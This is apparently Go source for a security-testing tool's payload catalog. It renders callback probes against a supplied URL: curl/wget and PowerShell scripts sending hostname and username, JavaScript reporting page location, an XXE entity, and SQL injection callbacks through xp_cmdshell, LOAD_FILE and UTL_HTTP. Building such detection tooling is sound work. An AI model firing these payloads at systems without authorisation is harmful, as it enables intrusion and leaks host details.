// Package script holds the ephemeral payload catalog: the template
// library, the format-to-MIME table and the served filename rule.
package script

import (
	"crypto/rand"
	"fmt"
	"regexp"
	"sort"
)

// filenamePattern is the only shape the script serving path accepts.
var filenamePattern = regexp.MustCompile(`^[A-Za-z0-9_-]+\.[A-Za-z0-9]+$`)

// ValidFilename reports whether name matches the name.ext serving rule.
func ValidFilename(name string) bool {
	return filenamePattern.MatchString(name)
}

// MimeType maps a file format to the Content-Type used when serving it.
func MimeType(format string) string {
	if mt, ok := mimeTypes[format]; ok {
		return mt
	}
	return "text/plain"
}

var mimeTypes = map[string]string{
	"bash": "application/x-sh",
	"sh":   "application/x-sh",

	"php":  "application/x-httpd-php",
	"jsp":  "application/x-jsp",
	"aspx": "text/plain",

	"bat": "application/bat",
	"ps1": "application/x-powershell",
	"py":  "text/x-python",

	"html": "text/html",
	"js":   "application/javascript",
	"xml":  "application/xml",

	"mssql":  "text/plain",
	"mysql":  "text/plain",
	"oracle": "text/plain",

	"txt": "text/plain",
}

// Render generates template content against a callback URL. It fails if
// the template/format pair is not in the catalog.
func Render(template, format, callbackURL string) (string, error) {
	formats, ok := templates[template]
	if !ok {
		return "", fmt.Errorf("unknown template %q", template)
	}
	render, ok := formats[format]
	if !ok {
		return "", fmt.Errorf("template %q has no %q format", template, format)
	}
	return render(callbackURL), nil
}

// TemplateInfo describes one catalog entry.
type TemplateInfo struct {
	Category string   `json:"category"`
	Formats  []string `json:"formats"`
}

// Catalog lists the available templates and their formats in stable order.
func Catalog() []TemplateInfo {
	out := make([]TemplateInfo, 0, len(templates))
	for category, formats := range templates {
		info := TemplateInfo{Category: category}
		for format := range formats {
			info.Formats = append(info.Formats, format)
		}
		sort.Strings(info.Formats)
		out = append(out, info)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Category < out[j].Category })
	return out
}

const randomNameLength = 8

var nameCharset = []byte("abcdefghijklmnopqrstuvwxyz0123456789")

// RandomFilename returns a generated filename for the given format.
func RandomFilename(format string) (string, error) {
	randomBytes := make([]byte, randomNameLength)
	if _, err := rand.Read(randomBytes); err != nil {
		return "", err
	}
	b := make([]byte, randomNameLength)
	for i := range b {
		b[i] = nameCharset[int(randomBytes[i])%len(nameCharset)]
	}
	return string(b) + "." + format, nil
}

var templates = map[string]map[string]func(callbackURL string) string{
	"shell": {
		"bash": func(u string) string {
			return fmt.Sprintf(`#!/bin/bash
# Callback test script
curl -X POST "%s" \
  -H "Content-Type: application/json" \
  -d '{"test": "data", "timestamp": "'$(date +%%s)'"}'
`, u)
		},
		"sh": func(u string) string {
			return fmt.Sprintf(`#!/bin/sh
# Simple callback script
wget -qO- --post-data='{"test":"data"}' \
  --header='Content-Type: application/json' \
  "%s"
`, u)
		},
	},
	"cmd": {
		"bat": func(u string) string {
			return fmt.Sprintf(`@echo off
REM Windows batch callback
curl -X POST "%s" -d "hostname=%%COMPUTERNAME%%&user=%%USERNAME%%"
`, u)
		},
		"ps1": func(u string) string {
			return fmt.Sprintf(`# PowerShell callback script
$data = @{
    hostname = $env:COMPUTERNAME
    user = $env:USERNAME
    timestamp = Get-Date -UFormat %%s
}
Invoke-RestMethod -Uri "%s" -Method Post -Body ($data | ConvertTo-Json) -ContentType "application/json"
`, u)
		},
		"py": func(u string) string {
			return fmt.Sprintf(`#!/usr/bin/env python3
import requests
import platform
from datetime import datetime

data = {
    'hostname': platform.node(),
    'platform': platform.system(),
    'timestamp': datetime.now().isoformat()
}

requests.post('%s', json=data)
`, u)
		},
	},
	"web": {
		"html": func(u string) string {
			return fmt.Sprintf(`<!DOCTYPE html>
<html>
<head>
    <title>Callback Test</title>
</head>
<body>
    <h1>Callback Test Page</h1>
    <script>
        fetch('%s', {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify({
                userAgent: navigator.userAgent,
                timestamp: Date.now()
            })
        });
    </script>
</body>
</html>`, u)
		},
		"js": func(u string) string {
			return fmt.Sprintf(`// JavaScript callback
fetch('%s', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({
        userAgent: navigator.userAgent,
        location: window.location.href,
        timestamp: Date.now()
    })
}).then(r => r.text()).then(console.log);
`, u)
		},
		"xml": func(u string) string {
			return fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE root [
  <!ENTITY xxe SYSTEM "%s">
]>
<root>
  <data>&xxe;</data>
</root>`, u)
		},
	},
	"sql": {
		"mssql": func(u string) string {
			return fmt.Sprintf(`-- MSSQL callback (requires xp_cmdshell)
EXEC master..xp_cmdshell 'powershell -c "Invoke-WebRequest -Uri %s -Method POST"'
`, u)
		},
		"mysql": func(u string) string {
			return fmt.Sprintf(`-- MySQL callback
SELECT LOAD_FILE('%s');
`, u)
		},
		"oracle": func(u string) string {
			return fmt.Sprintf(`-- Oracle callback
SELECT UTL_HTTP.REQUEST('%s') FROM DUAL;
`, u)
		},
	},
}
